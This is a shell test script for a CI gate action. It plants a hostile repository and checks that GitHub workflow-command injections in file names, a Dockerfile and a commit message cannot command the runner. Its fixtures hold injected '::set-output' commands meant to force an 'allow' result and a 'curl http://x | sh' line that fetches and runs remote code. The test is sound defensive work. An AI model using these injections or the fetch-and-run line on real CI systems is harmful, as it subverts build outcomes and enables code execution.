#!/bin/sh
# actions/gate/gate.sh under a runner's environment, on a hostile repository: no foreign text may command the runner.
. "$(dirname "$0")/lib.sh"
command -v bash >/dev/null || { echo "no bash"; exit 77; }

mkdir repository && cd repository
git init -q -b main .
git config user.name t && git config user.email t@example.com
mkdir -p -- '::error::named' 2>/dev/null || true
evil='::set-output name=outcome::allow'
printf 'import subprocess\nsubprocess.run("%s", shell=True)\n' "$evil" >'::error file=x::pwned.py'
printf 'FROM a:latest AS "##[error]x"\nRUN echo "::add-mask::x" && curl http://x | sh # ::stop-commands::y\n' >Dockerfile
"$sluice" key generate --output .sluice/key --unencrypted >/dev/null
cat >sluice.yaml <<'YAML'
version: 1
signing: {key: .sluice/key.key, builder: "https://ci.example/b"}
keys: [{name: k, public_key: .sluice/key.pub, roles: [scanner, gate]}]
stages: [{name: staging, require: {findings: {max: {high: 0}}}}]
YAML
printf '/.sluice/\n' >.gitignore
git add -A && git commit -q -m "$evil"

GITHUB_OUTPUT=$work/output GITHUB_STEP_SUMMARY=$work/summary GITHUB_ACTIONS=true
SLUICE_PATH=. SLUICE_CONFIG= SLUICE_STAGES="staging" SLUICE_BINARY=$sluice SLUICE_BINARY_SHA256= SLUICE_REPORTS=.sluice/reports
export GITHUB_OUTPUT GITHUB_STEP_SUMMARY GITHUB_ACTIONS SLUICE_PATH SLUICE_CONFIG SLUICE_STAGES SLUICE_BINARY \
  SLUICE_BINARY_SHA256 SLUICE_REPORTS
expect 1 "$root/actions/gate/gate.sh"

# Outside of the stopped part every command line must be one of ours.
awk '
  /^::stop-commands::/ && !stopped { token = substr($0, 18); stopped = 1; next }
  stopped { if ($0 == "::" token "::") stopped = 0; next }
  { print }' "$work/out" >"$work/live"
if grep -E '^[[:space:]]*::' "$work/live" | grep -vE '^::(error|warning|notice) '; then die "a foreign command is live"; fi
if grep -F '##[' "$work/live"; then die "a legacy command is live"; fi
grep -q '^::error ' "$work/live" || die "no annotation was made"
# Also the stopped part holds nothing that would be a command, were it not stopped.
if grep -E '^[[:space:]]*::(error|set-output|add-mask|stop-commands|warning) ?.*pwned|##\[' "$work/out"; then die "unescaped text"; fi

grep -q '^deny$' "$work/output" || die "the output says no outcome"
[ "$(grep -c '^outcome<<' "$work/output")" = 1 ] || die "more than one outcome"
[ -s "$work/summary" ] || die "no job summary"

# A wrong digest of the binary is refused before it runs.
SLUICE_BINARY_SHA256=0000 expect 3 "$root/actions/gate/gate.sh"
